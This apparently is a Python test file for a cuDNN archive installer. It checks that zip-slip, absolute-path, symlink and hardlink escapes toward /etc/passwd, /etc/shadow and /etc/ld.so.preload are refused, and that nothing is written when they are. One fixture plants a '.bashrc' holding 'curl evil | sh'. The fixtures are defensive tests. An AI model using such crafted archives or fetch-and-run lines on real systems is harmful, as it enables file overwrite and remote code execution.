"""Reading NVIDIA's archives (cudaswitch/cudnn/archive.py): names, hashes, and every hostile or broken archive
refused with nothing written."""

from __future__ import annotations

import json
import os
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import cudnn_archives as ca
from conftest import run_cli
from cudnn_checks import TOP, WTOP, snap, ok, refused



def _tar_with(tmp: Path, extra, name=f"{TOP}.tar.xz", base=None):
    entries = list(base if base is not None else ca.linux_entries("9.10.2.21", "12")) + list(extra)
    return ca.write_tar(tmp / name, entries)


def _zip_with(tmp: Path, extra, name=f"{WTOP}.zip"):
    return ca.write_zip(tmp / name, ca.windows_entries("9.10.2.21", "12", "archive") + list(extra))


def _raw_zip(path: Path, names):
    with zipfile.ZipFile(path, "w") as zf:
        for n, data in names:
            zf.writestr(zipfile.ZipInfo(n), data)
    return path


HOSTILE = {
    # name: (builder, os, expected words)
    "zip-slip": (lambda t: _zip_with(t, [(f"{WTOP}/../../../../Windows/System32/evil.dll", "file", b"MZ")]),
                 "windows", ["'..'"]),
    "zip-drive-letter": (lambda t: _zip_with(t, [("C:/Windows/System32/evil.dll", "file", b"MZ")]), "windows",
                         ["drive letter"]),
    "zip-backslash-slip": (lambda t: _zip_with(t, [(f"{WTOP}\\..\\..\\evil.dll", "file", b"MZ")]), "windows",
                           ["'..'"]),
    "zip-symlink": (lambda t: _zip_with(t, [(f"{WTOP}/bin/link.dll", "symlink", "C:/Windows/evil.dll")]),
                    "windows", ["symlink"]),
    "tar-absolute": (lambda t: _tar_with(t, [("/etc/ld.so.preload", "file", b"/tmp/evil.so\n")]), "linux",
                     ["absolute path"]),
    "tar-dotdot-last": (lambda t: _tar_with(t, [(f"{TOP}/lib/../../../../../etc/evil", "file", b"x")]), "linux",
                        ["'..'"]),
    "tar-symlink-escape": (lambda t: _tar_with(t, [(f"{TOP}/lib/libevil.so", "symlink", "../../../../etc/passwd")]),
                           "linux", ["points outside"]),
    "tar-symlink-absolute": (lambda t: _tar_with(t, [(f"{TOP}/lib/libevil.so", "symlink", "/etc/passwd")]), "linux",
                             ["points outside"]),
    "tar-hardlink": (lambda t: _tar_with(t, [(f"{TOP}/lib/libevil.so", "hardlink", "/etc/shadow")]), "linux",
                     ["hard link"]),
    "tar-dangling-symlink": (lambda t: _tar_with(t, [(f"{TOP}/lib/libcudnn_x.so", "symlink", "libnothing.so.9")]),
                             "linux", ["points to nothing"]),
    "tar-stray-folder": (lambda t: _tar_with(t, [(f"{TOP}/lib/x64_win/cudnn.lib", "file", b"x")]), "linux",
                         ["unexpected folder", "lib/x64_win"]),
    "tar-one-level-too-deep": (lambda t: ca.write_tar(t / f"{TOP}.tar.xz", [
        (f"{TOP}/{p}", k, d) for p, k, d in ca.linux_entries("9.10.2.21", "12")]), "linux",
        ["extra folder level"]),
    "tar-two-tops": (lambda t: _tar_with(t, [("cudnn-linux-x86_64-8.9.7.29_cuda12-archive/include/cudnn.h", "file",
                                              b"x")]), "linux", ["more than one top folder"]),
    "not-cudnn-photos": (lambda t: _raw_zip(t / "holiday.zip", [("photos/a.jpg", b"\xff\xd8"), ("photos/b.jpg", b"x")]),
                         "windows", ["not a cuDNN archive"]),
    "not-cudnn-no-header": (lambda t: ca.write_tar(t / f"{TOP}.tar.xz", [
        e for e in ca.linux_entries("9.10.2.21", "12") if "cudnn_version.h" not in e[0]]), "linux",
        ["not a cuDNN archive", "cudnn_version.h"]),
    "not-cudnn-no-library": (lambda t: ca.write_tar(t / f"{TOP}.tar.xz", [
        e for e in ca.linux_entries("9.10.2.21", "12") if "/lib/libcudnn.so" not in e[0]]), "linux",
        ["libcudnn.so.9"]),
    "not-an-archive": (lambda t: (t / f"{TOP}.tar.xz").write_bytes(b"<html>404 Not Found</html>") and
                       t / f"{TOP}.tar.xz", "linux", ["not a .zip, .tar.xz or .tar.gz"]),
    "mixed-os": (lambda t: _tar_with(t, [(f"{TOP}/lib/cudnn64_9.dll", "file", b"MZ")]), "linux",
                 ["mixes Windows"]),
    "wrong-os": (lambda t: ca.make(t, "win-9.10-archive"), "linux", ["Windows zip", "Linux install"]),
    "wrong-os-tarball-into-windows": (lambda t: ca.make(t, "linux-9.10-archive"), "windows",
                                      ["Linux tarball", "Windows install"]),
    "wrong-arch-sbsa": (lambda t: ca.write_tar(t / "cudnn-linux-sbsa-9.10.2.21_cuda12-archive.tar.xz", [
        (p.replace("x86_64", "sbsa"), k, d) for p, k, d in ca.linux_entries("9.10.2.21", "12")]), "linux",
        ["built for sbsa", "x86_64 toolkit"]),
    "wrong-cuda-major": (lambda t: ca.make(t, "linux-9.20-cuda13"), "linux", ["built for CUDA 13", "--force"]),
    "header-disagrees-with-name": (lambda t: ca.write_tar(t / f"{TOP}.tar.xz", [
        (p, k, ca.version_header("9.1.0.70") if p.endswith("cudnn_version.h") else d)
        for p, k, d in ca.linux_entries("9.10.2.21", "12")]), "linux", ["says cuDNN 9.10.2.21", "says 9.1.0"]),
}


def _truncate(path: Path, keep: float) -> Path:
    data = path.read_bytes()
    path.write_bytes(data[: int(len(data) * keep)])
    return path


def _corrupt(path: Path) -> Path:
    data = bytearray(path.read_bytes())
    mid = len(data) // 2
    data[mid:mid + 64] = bytes(64)
    path.write_bytes(bytes(data))
    return path


def _big_linux(t: Path) -> Path:
    """A tarball whose libraries are large enough that truncation hits file data, not only the footer."""
    entries = []
    for p, k, d in ca.linux_entries("9.10.2.21", "12"):
        if k == "file" and ".so." in p:
            d = os.urandom(256 * 1024)
        entries.append((p, k, d))
    return ca.write_tar(t / f"{TOP}.tar.xz", entries)


HOSTILE.update({
    "truncated-tar-xz": (lambda t: _truncate(_big_linux(t), 0.6), "linux", ["truncated or corrupt"]),
    "truncated-tar-xz-footer": (lambda t: _truncate(_big_linux(t), 0.9999), "linux", ["truncated or corrupt"]),
    "corrupt-tar-xz": (lambda t: _corrupt(_big_linux(t)), "linux", ["truncated or corrupt"]),
    "truncated-tgz": (lambda t: _truncate(ca.write_tar(t / f"{TOP}.tar.gz", [
        (p, k, os.urandom(100_000) if k == "file" and ".so." in p else d)
        for p, k, d in ca.linux_entries("9.10.2.21", "12")], "w:gz"), 0.5), "linux", ["truncated or corrupt"]),
    "truncated-zip": (lambda t: _truncate(ca.make(t, "win-9.10-archive"), 0.7), "windows",
                      ["truncated or corrupt"]),
    "corrupt-zip-data": (lambda t: _corrupt(ca.write_zip(t / f"{WTOP}.zip", [
        (p, k, os.urandom(200_000) if p.endswith(".dll") else d)
        for p, k, d in ca.windows_entries("9.10.2.21", "12", "archive")])), "windows", ["truncated or corrupt"]),
    # issue 14: only what a cuDNN archive contains, and limits before anything is written
    "tar-dotfile-in-include": (lambda t: _tar_with(t, [(f"{TOP}/include/.bashrc", "file", b"curl evil | sh\n")]),
                               "linux", ["include/.bashrc", "not a cuDNN file"]),
    "tar-foreign-library": (lambda t: _tar_with(t, [(f"{TOP}/lib/libc.so.6", "file", b"\x7fELF")]), "linux",
                            ["lib/libc.so.6", "not a cuDNN file"]),
    "zip-foreign-dll": (lambda t: _zip_with(t, [(f"{WTOP}/bin/python311.dll", "file", b"MZ")]), "windows",
                        ["bin/python311.dll", "not a cuDNN file"]),
    "tar-too-many-members": (lambda t: ca.many_members_tar(t / f"{TOP}.tar.xz", 2500), "linux",
                             ["more than 2000 members"]),
    "zip-too-many-members": (lambda t: _zip_with(t, [(f"{WTOP}/include/cudnn_x{i}.h", "file", b"")
                                                     for i in range(2500)]), "windows", ["more than 2000 members"]),
    "tar-declares-a-9-gib-member": (lambda t: ca.huge_member_tar(t / f"{TOP}.tar.gz", 9 << 30), "linux",
                                    ["more than 8 GiB", "libcudnn_engines_precompiled"]),
})


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_or_broken_archive_is_refused_with_nothing_written(case, tmp_path, linux_fs, win_fs):
    build, os_, words = HOSTILE[case]
    fs, env = linux_fs if os_ == "linux" else win_fs
    version = "12.9" if os_ == "linux" else "12.4"
    d = tmp_path / "hostile"
    d.mkdir()
    archive = build(d)
    before = snap(fs)
    line = refused(run_cli(["install-cudnn", str(archive), "--cuda", version], env), *words)
    assert snap(fs) == before, line
    # the dry run refuses it the same way, also writing nothing
    refused(run_cli(["install-cudnn", str(archive), "--cuda", version, "--dry-run"], env))
    assert snap(fs) == before
    assert not (tmp_path / "evil").exists() and not Path("/etc/evil").exists()


def test_integrity_sha256_and_redistrib_json(archives, linux_fs, tmp_path):
    import hashlib

    fs, env = linux_fs
    archive = archives["linux-9.10-archive"]
    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
    before = snap(fs)
    refused(run_cli(["install-cudnn", str(archive), "--sha256", "0" * 64], env), "does not match")
    refused(run_cli(["install-cudnn", str(archive), "--sha256", "xyz"], env), "not a SHA-256")
    redist = tmp_path / "redistrib_9.10.2.json"
    redist.write_text(json.dumps({"release_date": "2025-06-01", "cudnn": {
        "name": "NVIDIA CUDA Deep Neural Network library", "version": "9.10.2.21",
        "linux-x86_64": {"cuda12": {"relative_path": f"cudnn/linux-x86_64/{archive.name}", "sha256": "1" * 64,
                                    "md5": "0" * 32, "size": str(archive.stat().st_size)}}}}))
    refused(run_cli(["install-cudnn", str(archive), "--redistrib-json", str(redist)], env), "does not match")
    assert snap(fs) == before
    redist.write_text(redist.read_text().replace("1" * 64, digest))
    out = ok(run_cli(["install-cudnn", str(archive), "--redistrib-json", str(redist), "--sha256", digest], env)).stdout
    assert "SHA-256 verified" in out


@pytest.mark.parametrize("name,expected", [
    # archive names NVIDIA and PyTorch CI use (sources.csv S46-S64, S115-S117)
    ("cudnn-11.3-windows-x64-v8.2.1.32.zip", ("windows", "8.2.1.32", 11, 3)),
    ("cudnn-10.2-windows10-x64-v7.6.5.32.zip", ("windows", "7.6.5.32", 10, 2)),
    ("cudnn-11.1-windows-x64-v8.0.5.39.zip", ("windows", "8.0.5.39", 11, 1)),
    ("cudnn-11.3-linux-x64-v8.2.1.32.tgz", ("linux", "8.2.1.32", 11, 3)),
    ("cudnn-windows-x86_64-8.3.2.44_cuda11.5-archive.zip", ("windows", "8.3.2.44", 11, 5)),
    ("cudnn-windows-x86_64-8.5.0.96_cuda11-archive.zip", ("windows", "8.5.0.96", 11, None)),
    ("cudnn-linux-x86_64-8.3.2.44_cuda10.2-archive.tar.xz", ("linux", "8.3.2.44", 10, 2)),
    ("cudnn-linux-x86_64-8.9.2.26_cuda11-archive.tar.xz", ("linux", "8.9.2.26", 11, None)),
    ("cudnn-windows-x86_64-9.19.0.56_cuda13-archive.zip", ("windows", "9.19.0.56", 13, None)),
    ("cudnn-linux-x86_64-9.20.0.48_cuda13-archive.tar.xz", ("linux", "9.20.0.48", 13, None)),
    ("cudnn-linux-sbsa-9.10.2.21_cuda12-archive", ("linux", "9.10.2.21", 12, None)),
    ("cudnn.zip", None),
    ("cudnn_9.7.0_windows.exe", None),
])
def test_archive_names(name, expected):
    from cudaswitch.cudnn.archive import name_info

    info = name_info(name)
    if expected is None:
        assert info is None
    else:
        assert (info["os"], info["version"], info["cuda_major"], info["cuda_minor"]) == expected


def test_colon_in_member_name_is_refused(tmp_path, win_fs):
    fs, env = win_fs
    archive = _zip_with(tmp_path, [(f"{WTOP}/bin/cudnn64_9.dll:evil", "file", b"MZ")])
    before = snap(fs)
    refused(run_cli(["install-cudnn", str(archive), "--cuda", "12.4"], env), "character Windows treats specially")
    assert snap(fs) == before


_PARTS = st.sampled_from(["..", ".", "", "cuda", "lib", "x64", "C:", "c:", "\\", "/", "a..b", "...", "bin",
                          "D:\\", "~", "lib64", "\\\\?\\", "..\\", "%2e%2e"])


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(_PARTS, st.text(min_size=1, max_size=4)), min_size=1, max_size=8),
       st.sampled_from(["/", "\\"]))
def test_member_paths_never_leave_the_archive_folder(parts, sep):
    """Whatever a member is called, it is either refused or lands strictly inside the folder it is unpacked to,
    read with POSIX or with Windows path rules."""
    import ntpath
    import posixpath

    from cudaswitch.cudnn.archive import ArchiveError, check_member_path

    raw = sep.join(parts)
    try:
        p = check_member_path(raw)
    except ArchiveError:
        return
    for mod, base in ((posixpath, "/base"), (ntpath, "C:\\base")):
        joined = mod.normpath(mod.join(base, p))
        assert joined.startswith(base + mod.sep), (raw, p, joined)
        assert not mod.isabs(p) and ":" not in p
